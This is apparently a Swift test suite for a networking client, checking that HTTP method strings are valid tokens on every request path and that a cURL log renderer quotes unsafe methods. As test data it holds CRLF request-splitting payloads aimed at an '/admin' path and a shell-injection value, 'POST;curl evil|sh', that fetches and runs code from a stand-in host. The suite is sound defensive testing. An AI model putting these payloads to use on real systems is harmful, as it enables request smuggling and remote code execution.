import Foundation
import KeelNetworking
import KeelNetworkingTesting
import KeelSupport
import KeelTesting
import Testing

#if canImport(FoundationNetworking)
    import FoundationNetworking
#endif

/// The method is part of the request line: it used to be sent as given. A method with CR/LF
/// (`"GET /admin HTTP/1.1\r\nHost: internal\r\n\r\nGET"`) reached libcurl's
/// `CURLOPT_CUSTOMREQUEST` unchanged and split the request in two on the wire, and the cURL
/// log line put the method into a shell command unquoted.
@Suite("HTTP methods are RFC 9110 tokens on every path that sends one")
struct MethodValidationTests {
    static let badMethods = [
        "GET /admin HTTP/1.1\r\nHost: internal\r\nX-A: 1\r\n\r\nGET",
        "",
        "PO ST",
        "POST;curl evil|sh",
        "G\u{0}ET",
        "GÉT",
        "GET(",
    ]

    static func client(
        _ stub: StubTransport, interceptors: [any APIInterceptor] = []
    ) -> APIClient {
        APIClient(
            configuration: .init(
                baseURL: URL(string: "https://api.test/v1"), interceptors: interceptors, retryPolicy: .never),
            transport: stub, clock: TestClock())
    }

    static func expectMethodRefused(_ body: () async throws -> Void) async {
        do {
            try await body()
            Issue.record("the method was accepted")
        } catch let APIError.invalidRequest(field, reason) {
            #expect(field == "method", "\(reason)")
            #expect(
                !reason.contains("\r") && !reason.contains("\n"), "the reason echoes raw CR/LF: \(reason)")
        } catch {
            Issue.record("expected invalidRequest(field: \"method\"), got \(error)")
        }
    }

    @Test("A method that is not a token is refused before anything is sent", arguments: badMethods)
    func builderRefuses(_ method: String) async {
        let stub = StubTransport()
        let client = Self.client(stub)
        await Self.expectMethodRefused {
            _ = try await client.send(
                Endpoint<Data>(HTTPMethod(rawValue: method), target: .path("x"), decoding: .data))
        }
        // Twice: the request built for a call without a body is remembered; a refusal is not.
        await Self.expectMethodRefused {
            _ = try await client.send(
                Endpoint<Data>(HTTPMethod(rawValue: method), target: .path("x"), decoding: .data))
        }
        #expect(stub.requests.isEmpty)
    }

    @Test("Methods that are tokens still go: registered, extension and lower-cased ones")
    func tokensGo() async throws {
        let stub = StubTransport()
        let client = Self.client(stub)
        for method in ["get", "PROPFIND", "M-SEARCH", "BREW!"] {
            _ = try await client.send(
                Endpoint<Data>(
                    HTTPMethod(rawValue: method), target: .path("x"), sampleResponse: SampleResponse(),
                    decoding: .data))
        }
        #expect(stub.requests.map(\.method) == ["GET", "PROPFIND", "M-SEARCH", "BREW!"])
    }

    /// Sets the request's method, as an interceptor may.
    struct MethodRewriter: APIInterceptor {
        let method: String
        func adapt(_ request: inout URLRequest, context: RequestContext) async throws {
            request.httpMethod = method
        }
    }

    @Test("A method an interceptor sets is checked too: calls, streams and WebSocket upgrades")
    func interceptorMethod() async {
        let stub = StubTransport()
        let client = Self.client(
            stub, interceptors: [MethodRewriter(method: "GET /x HTTP/1.1\r\nA: b\r\n\r\nGET")])
        await Self.expectMethodRefused {
            _ = try await client.send(Endpoint<Data>(.get, target: .path("x"), decoding: .data))
        }
        await Self.expectMethodRefused {
            _ = try await client.bytes(for: Endpoint<Data>(.get, target: .path("x"), decoding: .data))
        }
        await Self.expectMethodRefused {
            _ = try await client.upgrade(
                for: Endpoint<Data>(.get, target: .path("chat"), decoding: .data), timeout: .seconds(5))
        }
        #expect(stub.requests.isEmpty)
    }

    @Test("Streams and WebSocket upgrades refuse a method that is not a token")
    func otherPaths() async {
        let stub = StubTransport()
        let client = Self.client(stub)
        let evil = HTTPMethod(rawValue: "GET /admin HTTP/1.1\r\nHost: internal\r\n\r\nGET")
        await Self.expectMethodRefused {
            _ = try await client.bytes(for: Endpoint<Data>(evil, target: .path("x"), decoding: .data))
        }
        await Self.expectMethodRefused {
            _ = try await client.upgrade(
                for: Endpoint<Data>(evil, target: .path("chat"), decoding: .data), timeout: .seconds(5))
        }
        #expect(stub.requests.isEmpty)
    }

    @Test("The cURL line quotes a method that is not a plain word")
    func curlQuotesMethod() {
        var request = URLRequest(url: URL(string: "https://api.test/x")!)
        request.httpMethod = "POST;curl evil|sh"
        let line = CURLRenderer().render(request)
        #expect(line.hasPrefix("curl -X 'POST;curl evil|sh' "), "\(line)")
        request.httpMethod = "PUT"
        #expect(CURLRenderer().render(request).hasPrefix("curl -X PUT 'https://api.test/x'"))
    }
}
